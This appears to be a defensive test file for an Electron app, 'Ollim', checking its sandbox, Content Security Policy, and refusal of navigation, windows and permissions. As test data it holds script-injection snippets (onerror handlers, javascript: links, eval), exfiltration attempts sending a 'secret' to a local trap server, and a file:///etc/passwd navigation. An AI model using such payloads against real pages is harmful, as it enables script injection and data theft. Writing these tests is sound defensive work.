import { writeFile } from 'node:fs/promises'
import path from 'node:path'
import { expect, inject, test } from 'vitest'
import { destinationIn } from '../support/electron/bucket'
import { readLog, untilLogSays } from '../support/electron/log'
import { newFolder, oneOllim } from '../support/electron/ollim-in-test'
import { trapServer } from '../support/electron/trap-server'
import { dropFiles, untilRowSays } from '../support/electron/window'

const ownAddress = 'app://ollim/'
const ollim = oneOllim(() => ({ environment: destinationIn(inject('publicStore'), 'security') }))

test('the page runs in a sandbox, isolated and without Node', async () => {
  const preferences = await ollim().app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => {
      // The settings that this very page was made with; Electron does not describe the method.
      const read: unknown = Reflect.get(contents, 'getLastWebPreferences')
      return typeof read === 'function' ? JSON.stringify(Reflect.apply(read, contents, [])) : ''
    }),
  )
  expect(preferences).toHaveLength(1)
  expect(JSON.parse(preferences[0] ?? '')).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    webviewTag: false,
  })
})

test('the page has nothing of Node or Electron but its bridge', async () => {
  const { page } = ollim()
  const names = ['process', 'require', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer']
  const known = await page.evaluate((asked) => asked.filter((name) => name in window), names)
  expect(known).toEqual([])
  const bridge = await page.evaluate(() => ({
    isFrozen: Object.isFrozen(window.ollim),
    canBeReplaced: Reflect.set(window, 'ollim', {}),
  }))
  expect(bridge).toEqual({ isFrozen: true, canBeReplaced: false })
})

test('the page is served with a policy that allows its own files only', async () => {
  const policy = await ollim().page.evaluate(async () => {
    const { headers } = await fetch(location.href)
    return headers.get('content-security-policy') ?? ''
  })
  const rules = new Map(
    policy.split('; ').map((rule) => {
      const [name = '', ...sources] = rule.split(' ')
      return [name, sources]
    }),
  )
  expect(rules.get('default-src')).toEqual(["'none'"])
  expect(rules.get('script-src')).toEqual(["'self'"])
  expect(rules.get('connect-src')).toEqual(["'self'"])
  for (const name of ['base-uri', 'form-action', 'frame-ancestors'])
    expect(rules.get(name)).toEqual(["'none'"])
  expect(policy).not.toMatch(/unsafe-|https?:|\*/)
})

test('a dropped web page is refused as an image, and never opens', async () => {
  const { page } = ollim()
  const file = path.join(await newFolder('web'), 'page.html')
  await writeFile(file, '<!doctype html><title>Elsewhere</title><p>Elsewhere')
  await dropFiles(page, [file])
  await untilRowSays(page, 'page.html', 'is not an image')
  expect(page.url()).toBe(ownAddress)
})

/** Each tries to run a script that the page did not bring along; `found` would tell that it ran. */
const smuggledScripts = {
  'an inline script': `const it = document.createElement('script'); it.textContent = 'window.found = 1'; document.body.append(it)`,
  'a handler in markup': `const it = document.createElement('img'); it.setAttribute('onerror', 'window.found = 1'); it.src = 'data:,'; document.body.append(it)`,
  'a string run as code': `eval('window.found = 1')`,
  'a string run as code later': `setTimeout('window.found = 1')`,
  'a script in a data address': `const it = document.createElement('script'); it.src = 'data:text/javascript,window.found = 1'; document.body.append(it)`,
  'a script in a blob': `const it = document.createElement('script'); it.src = URL.createObjectURL(new Blob(['window.found = 1'])); document.body.append(it)`,
  'a link with a script': `const it = document.createElement('a'); it.href = 'javascript:window.found = 1'; document.body.append(it); it.click()`,
}

test.each(Object.entries(smuggledScripts))('%s does not run', async (_what, code) => {
  expect(await refusedDirective(code)).toMatch(/^script-src/)
  expect(await ollim().page.evaluate(() => 'found' in window)).toBe(false)
})

/** Each tries to bring something in from elsewhere, or to send something there. */
const smuggledBytes = {
  'a request': `fetch('TRAP/fetch').catch(() => undefined)`,
  'an XMLHttpRequest': `const it = new XMLHttpRequest(); it.open('POST', 'TRAP/xhr'); it.send('secret')`,
  'a beacon': `navigator.sendBeacon('TRAP/beacon', 'secret')`,
  'a web socket': `new WebSocket('TRAP/socket'.replace('http', 'ws'))`,
  'an image': `new Image().src = 'TRAP/image?secret'`,
  'a style sheet': `const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = 'TRAP/style'; document.head.append(it)`,
  'a style in markup': `document.body.setAttribute('style', 'background: url(TRAP/background)')`,
  'a font': `new FontFace('trap', 'url(TRAP/font)').load().catch(() => undefined)`,
  'a video': `const it = document.createElement('video'); it.src = 'TRAP/video'; document.body.append(it)`,
  'a frame': `const it = document.createElement('iframe'); it.src = 'TRAP/frame'; document.body.append(it)`,
  'an object': `const it = document.createElement('object'); it.data = 'TRAP/object'; document.body.append(it)`,
  'a form': `const it = document.createElement('form'); it.action = 'TRAP/form'; it.method = 'post'; document.body.append(it); it.submit()`,
  'a worker': `new Worker(URL.createObjectURL(new Blob(['fetch("TRAP/worker")'])))`,
}

test.each(Object.entries(smuggledBytes))('%s cannot leave the page', async (_what, code) => {
  const { address, asked } = await trapServer()
  expect(await refusedDirective(code.replaceAll('TRAP', address))).not.toBe('')
  expect(asked).toEqual([])
})

/** Runs code in the page, as its own would run, and waits for the rule that refuses it. */
async function refusedDirective(code: string): Promise<unknown> {
  const { page, problems } = ollim()
  const directive = await page.evaluate(
    `new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
      setTimeout(() => { try { ${code} } catch { /* the rule says it */ } })
    })`,
  )
  // The page says what it refused; that was asked for.
  for (const said of problems.splice(0)) expect(said).toMatch(/Content Security Policy|Refused to/)
  return directive
}

test('a frame in the page runs no scripts and has no bridge', async () => {
  const { page, problems } = ollim()
  const bridge = await page.evaluate(async () => {
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.found = 1</script>'
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
    document.body.append(frame)
    await loaded
    return { inFrame: 'ollim' in (frame.contentWindow ?? {}), found: 'found' in window }
  })
  expect(bridge).toEqual({ inFrame: false, found: false })
  for (const said of problems.splice(0)) expect(said).toMatch(/Content Security Policy/)
})

test('a new window is refused, and logged', async () => {
  const { address, asked } = await trapServer()
  const { page, app, home } = ollim()
  const opened = await page.evaluate(
    (to) => [window.open(to), window.open('about:blank', '_blank'), window.open(location.href)].map(String),
    `${address}/window`,
  )
  expect(opened).toEqual(['null', 'null', 'null'])
  expect(app.windows()).toHaveLength(1)
  expect(asked).toEqual([])
  await untilLogSays(home, `A new window was refused { address: '${address}/window' }`)
})

test.each(['will-navigate', 'will-frame-navigate', 'will-redirect', 'will-attach-webview'])(
  'main refuses a %s',
  async (event) => {
    const isPrevented = await ollim().app.evaluate(({ BrowserWindow }, name) => {
      let isPrevented = false
      const preventDefault = () => (isPrevented = true)
      // None of Ollim's own pages does this, so it can only be pretended.
      BrowserWindow.getAllWindows()[0]?.webContents.emit(name, {
        url: 'https://example.com/',
        preventDefault,
      })
      return isPrevented
    }, event)
    expect(isPrevented).toBe(true)
  },
)

test('every permission is refused', async () => {
  const { page, home } = ollim()
  const answers = await page.evaluate(async () => {
    const outcome = (asked: Promise<unknown>) =>
      asked.then(
        () => 'granted',
        () => 'refused',
      )
    return {
      notifications: await Notification.requestPermission(),
      geolocation: (await navigator.permissions.query({ name: 'geolocation' })).state,
      camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
      screen: await outcome(navigator.mediaDevices.getDisplayMedia()),
      clipboard: await outcome(navigator.clipboard.readText()),
      place: await new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          () => resolve('refused'),
        ),
      ),
    }
  })
  expect(answers).toEqual({
    notifications: 'denied',
    geolocation: 'denied',
    camera: 'refused',
    screen: 'refused',
    clipboard: 'refused',
    place: 'refused',
  })
  await untilLogSays(home, 'A permission was refused')
})

/** Each tries to lead the page elsewhere. */
const waysOut = {
  'an assignment': `location.href = 'TRAP/location'`,
  'a replacement': `location.replace('TRAP/replace')`,
  'a link': `const it = document.createElement('a'); it.href = 'TRAP/link'; document.body.append(it); it.click()`,
  'a link to a new tab': `const it = document.createElement('a'); it.href = 'TRAP/tab'; it.target = '_blank'; document.body.append(it); it.click()`,
  'a local file': `location.href = 'file:///etc/passwd'`,
  'a web page in an address': `location.href = 'data:text/html,TRAP'`,
}

test.each(Object.entries(waysOut))('%s does not lead the page away', async (_what, code) => {
  const { address, asked } = await trapServer()
  const { page, app, home, problems } = ollim()
  // Main says so in the log, Chromium itself in the page's console.
  const refusals = async () =>
    [...(await readLog(home)).matchAll(/A (navigation|new window) was refused/g), ...problems].length
  const before = await refusals()
  await page.evaluate(
    `window.stays = 1; setTimeout(() => { ${code.replaceAll('TRAP', address)} }); undefined`,
  )
  await expect.poll(refusals).toBeGreaterThan(before)
  expect(page.url()).toBe(ownAddress)
  expect(await page.evaluate(() => 'stays' in window)).toBe(true)
  expect(app.windows()).toHaveLength(1)
  expect(asked).toEqual([])
  for (const said of problems.splice(0)) expect(said).toMatch(/Not allowed to/)
})
